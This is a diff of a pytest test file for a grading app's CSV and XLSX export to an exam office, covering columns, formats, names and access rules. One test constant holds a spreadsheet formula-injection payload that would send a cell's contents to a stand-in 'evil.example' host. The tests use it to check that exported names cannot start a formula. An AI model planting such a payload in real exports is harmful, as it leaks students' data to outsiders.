@@ -1,7 +1,12 @@
-"""The export for the exam office: CSV (streamed) and XLSX with every student, decimal comma or point."""
+"""The export for the exam office: CSV (streamed) and XLSX with every student, German style or international.
+
+The files are read back with Python's csv module and with openpyxl; tests/grading/test_exports_libreoffice.py
+reads the same files with LibreOffice."""
 
 import csv
 import io
+from datetime import date, datetime
+from decimal import Decimal
 
 import pytest
 from openpyxl import load_workbook
@@ -12,12 +17,29 @@ from .helpers import PRESENTATION, REPORT, export_url, make_world, set_grade
 
 pytestmark = pytest.mark.django_db
 
-HEADER = ["Matriculation number", "Name", "E-mail", "Presentation", "Report", "Final grade", "Band"]
+HEADER = [
+    "Matriculation number",
+    "Family name",
+    "Given name",
+    "E-mail",
+    "Module number",
+    "Exam date",
+    "Presentation",
+    "Report",
+    "Final grade",
+    "Band",
+    "Status",
+]
+FINAL = HEADER.index("Final grade")
+INCOMPLETE = "incomplete: no grade for Report"
 
 
 @pytest.fixture
 def world():
     world = make_world()
+    world.seminar.module_number = "IN2107"
+    world.seminar.exam_date = date(2027, 2, 15)
+    world.seminar.save()
     set_grade(world.seminar, world.me, PRESENTATION, "1,3", grader=world.instructor)
     set_grade(world.seminar, world.me, REPORT, "2,0", grader=world.instructor)
     set_grade(world.seminar, world.other, PRESENTATION, "2,7", grader=world.instructor)
@@ -36,10 +58,14 @@ def csv_rows(response, delimiter: str) -> list[list[str]]:
     return list(csv.reader(io.StringIO(text[1:]), delimiter=delimiter))
 
 
-def xlsx_rows(response) -> list[list]:
-    workbook = load_workbook(io.BytesIO(response.content), read_only=True)
+def xlsx_sheet(response):
+    workbook = load_workbook(io.BytesIO(response.content))
     [sheet] = workbook.worksheets
-    return [list(row) for row in sheet.iter_rows(values_only=True)]
+    return sheet
+
+
+def xlsx_rows(response) -> list[list]:
+    return [list(row) for row in xlsx_sheet(response).iter_rows(values_only=True)]
 
 
 def test_export_csv_with_decimal_comma_lists_every_student(instructor_client, world):
@@ -47,36 +73,117 @@ def test_export_csv_with_decimal_comma_lists_every_student(instructor_client, wo
 
     assert response.status_code == 200
     assert response.streaming
-    assert response["Content-Type"].startswith("text/csv")
+    assert response["Content-Type"] == "text/csv; charset=utf-8"
     assert response["Content-Disposition"] == f'attachment; filename="grades-{world.seminar.slug}.csv"'
     assert csv_rows(response, ";") == [
         HEADER,
-        ["03700001", "Mia Me", "mia@uni.example", "1,3", "2,0", "1,5", "sehr gut"],
-        ["03700002", "Otto Other", "otto@uni.example", "2,7", "", "incomplete", ""],
+        ["03700001", "Me", "Mia", "mia@uni.example", "IN2107", "15.02.2027", "1,3", "2,0", "1,5", "sehr gut"]
+        + ["complete"],
+        [
+            "03700002",
+            "Other",
+            "Otto",
+            "otto@uni.example",
+            "IN2107",
+            "15.02.2027",
+            "2,7",
+            "",
+            "",
+            "",
+            INCOMPLETE,
+        ],
     ]
 
 
-def test_export_csv_with_decimal_point_uses_commas_between_fields(instructor_client, world):
+def test_export_csv_with_decimal_point_uses_commas_between_fields_and_iso_dates(instructor_client, world):
     response = instructor_client.get(export_url(world.seminar, "csv", "point"))
 
     assert csv_rows(response, ",") == [
         HEADER,
-        ["03700001", "Mia Me", "mia@uni.example", "1.3", "2.0", "1.5", "sehr gut"],
-        ["03700002", "Otto Other", "otto@uni.example", "2.7", "", "incomplete", ""],
+        ["03700001", "Me", "Mia", "mia@uni.example", "IN2107", "2027-02-15", "1.3", "2.0", "1.5", "sehr gut"]
+        + ["complete"],
+        [
+            "03700002",
+            "Other",
+            "Otto",
+            "otto@uni.example",
+            "IN2107",
+            "2027-02-15",
+            "2.7",
+            "",
+            "",
+            "",
+            INCOMPLETE,
+        ],
     ]
 
 
-@pytest.mark.parametrize(("decimal", "mark"), [("comma", ","), ("point", ".")])
-def test_export_xlsx_lists_every_student(instructor_client, world, decimal, mark):
+@pytest.mark.parametrize("decimal", ["comma", "point"])
+def test_export_xlsx_lists_every_student_with_numbers_as_numbers(instructor_client, world, decimal):
     response = instructor_client.get(export_url(world.seminar, "xlsx", decimal))
 
     assert response.status_code == 200
     assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
     assert response["Content-Disposition"] == f'attachment; filename="grades-{world.seminar.slug}.xlsx"'
+    exam_day = datetime(2027, 2, 15)
     assert xlsx_rows(response) == [
         HEADER,
-        ["03700001", "Mia Me", "mia@uni.example", f"1{mark}3", f"2{mark}0", f"1{mark}5", "sehr gut"],
-        ["03700002", "Otto Other", "otto@uni.example", f"2{mark}7", None, "incomplete", None],
+        [
+            "03700001",
+            "Me",
+            "Mia",
+            "mia@uni.example",
+            "IN2107",
+            exam_day,
+            1.3,
+            2.0,
+            1.5,
+            "sehr gut",
+            "complete",
+        ],
+        [
+            "03700002",
+            "Other",
+            "Otto",
+            "otto@uni.example",
+            "IN2107",
+            exam_day,
+            2.7,
+            None,
+            None,
+            None,
+            INCOMPLETE,
+        ],
+    ]
+
+
+@pytest.mark.parametrize(("decimal", "date_format"), [("comma", "DD.MM.YYYY"), ("point", "YYYY-MM-DD")])
+def test_export_xlsx_cells_have_types_and_formats_for_the_exam_office(
+    instructor_client, world, decimal, date_format
+):
+    sheet = xlsx_sheet(instructor_client.get(export_url(world.seminar, "xlsx", decimal)))
+    header = [cell.value for cell in sheet[1]]
+    mia = dict(zip(header, sheet[2], strict=True))
+    otto = dict(zip(header, sheet[3], strict=True))
+
+    for name in ("Matriculation number", "Family name", "Given name", "E-mail", "Module number", "Status"):
+        assert (mia[name].data_type, mia[name].number_format) == ("s", "@"), name
+    for name in ("Presentation", "Report", "Final grade"):
+        assert (mia[name].data_type, mia[name].number_format) == ("n", "0.0"), name
+    assert (mia["Exam date"].data_type, mia["Exam date"].number_format) == ("d", date_format)
+    assert (otto["Final grade"].value, otto["Final grade"].number_format) == (None, "0.0")
+    assert sheet.freeze_panes == "A2"
+
+
+def test_export_xlsx_final_grade_can_be_computed_with(instructor_client, world):
+    set_grade(world.seminar, world.other, REPORT, "5,0", grader=world.instructor)
+
+    rows = xlsx_rows(instructor_client.get(export_url(world.seminar, "xlsx", "comma")))
+
+    assert [row[FINAL] for row in rows[1:]] == [1.5, 5.0]
+    assert [row[FINAL + 1 :] for row in rows[1:]] == [
+        ["sehr gut", "complete"],
+        ["nicht ausreichend", "complete"],
     ]
 
 
@@ -85,16 +192,64 @@ def test_export_follows_the_rules_of_the_seminar(instructor_client, world):
 
     rows = csv_rows(instructor_client.get(export_url(world.seminar, "csv", "point")), ",")
 
-    assert rows[1][5:] == ["1.7", "gut"]
+    assert rows[1][FINAL:] == ["1.7", "gut", "complete"]
 
 
-def test_export_with_a_quote_and_separator_in_a_name_keeps_the_columns(instructor_client, world):
-    world.me.full_name = 'Mia "Mimi"; Me, Jr.'
+def test_export_of_a_seminar_without_module_number_and_exam_date_leaves_them_empty(instructor_client, world):
+    world.seminar.module_number = ""
+    world.seminar.exam_date = None
+    world.seminar.save()
+
+    csv_row = csv_rows(instructor_client.get(export_url(world.seminar, "csv", "comma")), ";")[1]
+    xlsx_row = xlsx_rows(instructor_client.get(export_url(world.seminar, "xlsx", "comma")))[1]
+
+    assert csv_row[4:6] == ["", ""]
+    assert xlsx_row[4:6] == [None, None]
+
+
+def test_export_takes_family_and_given_name_as_the_person_gave_them(instructor_client, world):
+    world.me.full_name = "Kim Jong-un"
+    world.me.family_name = "Kim"
+    world.me.given_name = "Jong-un"
+    world.me.save()
+
+    csv_row = csv_rows(instructor_client.get(export_url(world.seminar, "csv", "comma")), ";")[1]
+    xlsx_row = xlsx_rows(instructor_client.get(export_url(world.seminar, "xlsx", "comma")))[1]
+
+    assert csv_row[1:3] == ["Kim", "Jong-un"]
+    assert xlsx_row[1:3] == ["Kim", "Jong-un"]
+
+
+def test_export_without_name_parts_splits_the_full_name_with_its_particles(instructor_client, world):
+    world.me.full_name = "Ludwig van Beethoven"
     world.me.save()
 
     rows = csv_rows(instructor_client.get(export_url(world.seminar, "csv", "comma")), ";")
 
-    assert rows[1][:2] == ["03700001", 'Mia "Mimi"; Me, Jr.']
+    assert rows[1][:3] == ["03700001", "van Beethoven", "Ludwig"]
+
+
+def test_export_keeps_a_leading_zero_and_umlauts(instructor_client, world):
+    world.me.matriculation_number = "00012345"
+    world.me.family_name = "Groß-Müller"
+    world.me.given_name = "Jürgen Ömer"
+    world.me.save()
+
+    csv_row = csv_rows(instructor_client.get(export_url(world.seminar, "csv", "comma")), ";")[1]
+    xlsx_row = xlsx_rows(instructor_client.get(export_url(world.seminar, "xlsx", "comma")))[1]
+
+    assert csv_row[:3] == ["00012345", "Groß-Müller", "Jürgen Ömer"]
+    assert xlsx_row[:3] == ["00012345", "Groß-Müller", "Jürgen Ömer"]
+
+
+def test_export_with_a_quote_and_separator_in_a_name_keeps_the_columns(instructor_client, world):
+    world.me.family_name = 'Me; "Mimi", Jr.'
+    world.me.given_name = "Mia"
+    world.me.save()
+
+    rows = csv_rows(instructor_client.get(export_url(world.seminar, "csv", "comma")), ";")
+
+    assert rows[1][:3] == ["03700001", 'Me; "Mimi", Jr.', "Mia"]
     assert all(len(row) == len(HEADER) for row in rows)
 
 
@@ -107,18 +262,45 @@ def test_export_with_an_unknown_format_returns_to_the_sheet(instructor_client, w
     assert response.status_code == 302
 
 
-def test_export_rows_of_the_selector_match_the_file(world):
+def test_export_rows_of_the_selector_are_typed(world):
     rows = selectors.grading_sheet(world.seminar, world.instructor, "instructor")
 
-    assert list(exports.export_rows(rows, decimal_comma=True))[0] == [
-        "03700001",
-        "Mia Me",
-        "mia@uni.example",
-        "1,3",
-        "2,0",
-        "1,5",
-        "sehr gut",
+    assert list(exports.export_rows(world.seminar, rows)) == [
+        exports.ExportRow(
+            matriculation_number="03700001",
+            family_name="Me",
+            given_name="Mia",
+            email="mia@uni.example",
+            module_number="IN2107",
+            exam_date=date(2027, 2, 15),
+            grades=(Decimal("1.3"), Decimal("2.0")),
+            final=Decimal("1.5"),
+            band="sehr gut",
+            status="complete",
+        ),
+        exports.ExportRow(
+            matriculation_number="03700002",
+            family_name="Other",
+            given_name="Otto",
+            email="otto@uni.example",
+            module_number="IN2107",
+            exam_date=date(2027, 2, 15),
+            grades=(Decimal("2.7"), None),
+            final=None,
+            band="",
+            status=INCOMPLETE,
+        ),
     ]
+
+
+def test_export_in_german_names_columns_and_status_in_german(instructor_client, world):
+    response = instructor_client.get(export_url(world.seminar, "csv", "comma"), HTTP_ACCEPT_LANGUAGE="de")
+
+    rows = csv_rows(response, ";")
+
+    assert rows[0][:3] == ["Matrikelnummer", "Familienname", "Vorname"]
+    assert rows[1][-1] == "vollständig"
+    assert rows[2][-1] == "unvollständig: keine Note für Ausarbeitung"
 
 
 @pytest.mark.parametrize("who", ["me", "supervisor", "foreign_instructor", "foreign_student", "outsider"])
@@ -129,7 +311,7 @@ def test_export_by_anyone_but_the_seminars_instructor_is_forbidden(client, world
     response = client.get(export_url(world.seminar, file_format, "comma"))
 
     assert response.status_code == 403
-    assert b"Mia Me" not in response.content
+    assert b"Mia" not in response.content
 
 
 def test_export_of_a_draft_seminar_by_another_seminars_instructor_is_404(client):
@@ -140,24 +322,28 @@ def test_export_of_a_draft_seminar_by_another_seminars_instructor_is_404(client)
 
 
 FORMULA_NAME = '=HYPERLINK("https://evil.example/?"&A2,"Mia")'
+FORMULA_LIKE = [FORMULA_NAME, "+49 151 2345678", "-x", "@y"]
 
 
-def test_export_xlsx_with_a_name_like_a_formula_keeps_it_as_text(instructor_client, world):
-    world.me.full_name = FORMULA_NAME
+@pytest.mark.parametrize("name", FORMULA_LIKE)
+def test_export_xlsx_with_a_name_like_a_formula_keeps_it_as_a_plain_string(instructor_client, world, name):
+    world.me.family_name = name
+    world.me.given_name = name
     world.me.save()
 
-    response = instructor_client.get(export_url(world.seminar, "xlsx", "comma"))
+    sheet = xlsx_sheet(instructor_client.get(export_url(world.seminar, "xlsx", "comma")))
 
-    workbook = load_workbook(io.BytesIO(response.content))
-    cell = workbook.worksheets[0]["B2"]
-    assert cell.data_type == "s"
+    for cell in (sheet["B2"], sheet["C2"]):
+        assert (cell.data_type, cell.value) == ("s", name)
 
 
-@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
-def test_export_csv_with_a_name_like_a_formula_cannot_start_a_formula(instructor_client, world, start):
-    world.me.full_name = start + FORMULA_NAME[1:]
+@pytest.mark.parametrize("name", [*FORMULA_LIKE, "\tTab", "\rReturn"])
+def test_export_csv_with_a_name_like_a_formula_gets_an_apostrophe_in_front(instructor_client, world, name):
+    world.me.family_name = name
+    world.me.given_name = "Mia"
     world.me.save()
 
     rows = csv_rows(instructor_client.get(export_url(world.seminar, "csv", "comma")), ";")
 
-    assert not rows[1][1].startswith(("=", "+", "-", "@"))
+    assert rows[1][1] == "'" + name
+    assert rows[1][2] == "Mia"
